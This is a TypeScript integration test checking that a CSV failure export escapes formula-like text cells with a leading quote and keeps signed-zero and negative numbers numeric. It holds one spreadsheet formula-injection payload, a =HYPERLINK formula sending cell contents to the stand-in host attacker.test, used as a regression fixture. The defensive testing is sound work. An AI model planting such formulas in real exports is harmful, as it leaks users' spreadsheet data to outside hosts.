import { parse } from 'csv-parse/sync';
import type request from 'supertest';
import { approvedSuite } from '../../setup/approved-suite';
import { demoSuiteBody } from '../../setup/demo-suite-body';
import { signInAs } from '../../setup/sign-in-as';
import { startTestApp, type TestApp } from '../../setup/test-app';

/** Issue 11, defect 10: path names written by suite authors went into the export raw. */
const HYPERLINK = '=HYPERLINK("http://attacker.test/?d="&A1,"open me")';

let t: TestApp;
let reviewer: request.Agent;
let runId: string;

beforeAll(async () => {
  t = await startTestApp();
  const admin = await signInAs(t.app, 'admin');
  reviewer = await signInAs(t.app, 'reviewer');
  const targetName = (await t.db.dataSource.query(`SELECT name FROM targets WHERE installed LIMIT 1`))[0].name;
  await approvedSuite(t.db.dataSource, 'export-cells-suite');
  const plan = await admin
    .post('/api/plans')
    .send({ name: 'export cells', recipients: [], suites: ['export-cells-suite'], targets: [targetName] });
  runId = (await admin.post('/api/runs').send({ planId: plan.body.plan.id })).body.run.id;
  const [shard] = await t.db.dataSource.query(`SELECT id FROM shards WHERE run_id = $1 LIMIT 1`, [runId]);
  // What a shard stores for a failing point on a path of that name: signed zeros and tiny
  // negative numbers in the number columns, which must stay numbers.
  await t.db.dataSource.query(
    `INSERT INTO failures (run_id, shard_id, suite_slug, suite_version, target_name, target_library, target_version, convention, path_name, point_index, t, z, z_hex, expected, actual, point_key, outcome_kind, diagnosis_kind, ulps, relative_error, rule, reproducer)
     VALUES ($1, $2, 'export-cells-suite', 1, '@lab/complex@1.0.0', 'complex.js', '2.4.3', 'signed-zero', $3, 0, -0.5,
             '{"re":"-4","im":"-0"}', '{"re":"-0x1p+2","im":"-0x0p+0"}', '{"re":"-1.5e-300","im":"-2"}', '{"re":"-inf","im":"+2"}',
             'k', 'fail', 'zero-sign', -1, 2, '-rule', 'x')`,
    [runId, shard.id, HYPERLINK],
  );
});
afterAll(() => t.stop());

describe('the failure export', () => {
  it('accepts a path named like a formula in a suite, since it is only text', async () => {
    const body = demoSuiteBody('formula-path-name');
    body.paths[0]!.name = HYPERLINK;
    expect((await reviewer.post('/api/suites').send(body)).status).toBe(201);
  });

  it('writes text cells that start like a formula with a leading quote, and keeps number cells as numbers', async () => {
    const res = await reviewer.get('/api/failures/export.csv').query({ run: runId });
    expect(res.status).toBe(200);
    const [row] = parse(res.text, { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({
      path: `'${HYPERLINK}`,
      target: `'@lab/complex@1.0.0`,
      rule: `'-rule`,
      t: '-0.5',
      z_re: '-4',
      z_im: '-0',
      z_hex_re: '-0x1p+2',
      z_hex_im: '-0x0p+0',
      expected_re: '-1.5e-300',
      expected_im: '-2',
      actual_re: '-inf',
      actual_im: '+2',
      ulps: '-1',
    });
    expect(res.text).not.toMatch(/(^|,|")=HYPERLINK/m);
  });
});
